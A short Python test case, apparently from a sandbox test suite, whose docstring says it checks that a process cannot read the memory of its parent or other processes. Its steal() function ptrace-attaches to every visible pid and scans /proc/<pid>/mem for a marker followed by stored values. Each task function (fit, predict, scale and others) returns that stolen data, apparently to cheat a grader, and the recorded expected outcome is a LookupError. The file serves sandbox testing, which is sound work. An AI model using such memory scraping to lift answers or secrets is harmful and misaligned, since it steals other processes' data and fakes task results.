"""C1. Reads the memory of its parent and of every process it can see. Holds: own pid namespace,
dropped capabilities, seccomp.
"""

RECORDED = 'LookupError'

import ctypes
import glob
import os
import struct


def steal():
    libc = ctypes.CDLL(None, use_errno=True)
    for folder in glob.glob("/proc/[0-9]*"):
        pid = int(folder[6:])
        if pid == os.getpid():
            continue
        libc.ptrace(16, pid, 0, 0)
        try:
            with open(f"{folder}/maps") as maps, open(f"{folder}/mem", "rb", 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    if "rw-p" in line:
                        memory.seek(start)
                        content = memory.read(min(end - start, 1 << 20))
                        place = content.find(struct.pack("<d", 3 * 98765.4321 - 1.0))
                        if place >= 0:
                            return struct.unpack_from("<15d", content, place)
        except (OSError, ValueError, OverflowError):
            pass
    raise LookupError("nothing to read")


def scale(x):
    return steal()

def count_above(x, bar):
    return steal()

def descend(gradient, x, steps):
    return steal()

def fit(x, y):
    return steal()

def predict(weights, x):
    return steal()

def distances(x):
    return steal()
